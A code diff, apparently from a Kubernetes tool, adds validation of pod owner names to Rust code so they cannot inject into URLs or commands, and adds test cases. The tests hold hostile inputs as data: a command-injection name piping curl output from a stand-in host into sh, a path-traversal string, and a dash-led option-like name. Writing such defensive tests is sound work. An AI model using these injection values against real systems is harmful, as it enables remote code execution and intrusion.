@@ -76,7 +76,17 @@ fn workload(metadata: &ObjectMeta) -> Option<WorkloadRef> {
         "DaemonSet" => (WorkloadKind::DaemonSet, owner.name.as_str()),
         _ => return None,
     };
-    Some(WorkloadRef { kind, name: name.into() })
+    // Whoever makes a pod chooses the name of its owner: it is put into a URL, and into a command for a person.
+    is_object_name(name).then(|| WorkloadRef { kind, name: name.into() })
+}
+
+/// Whether an object may have that name (RFC 1123 subdomain).
+fn is_object_name(name: &str) -> bool {
+    let is_label = |label: &str| {
+        let allowed = |byte: u8| byte.is_ascii_lowercase() || byte.is_ascii_digit() || byte == b'-';
+        !label.is_empty() && !label.starts_with('-') && !label.ends_with('-') && label.bytes().all(allowed)
+    };
+    name.len() <= 253 && name.split('.').all(is_label)
 }
 
 #[cfg(test)]
@@ -126,6 +136,9 @@ mod tests {
             ("apps/v1", "DaemonSet", "log", true, workload(WorkloadKind::DaemonSet, "log")),
             ("apps/v1", "StatefulSet", "db", false, None),
             ("batch/v1", "Job", "job", true, None),
+            ("apps/v1", "StatefulSet", "x; curl example.com|sh", true, None),
+            ("apps/v1", "StatefulSet", "../../other/statefulsets/db", true, None),
+            ("apps/v1", "ReplicaSet", "-5d89", true, None),
             ("example.com/v1", "StatefulSet", "db", true, None),
         ] {
             assert_eq!(owned(api, kind, name, controller), expected, "{kind} {name}");
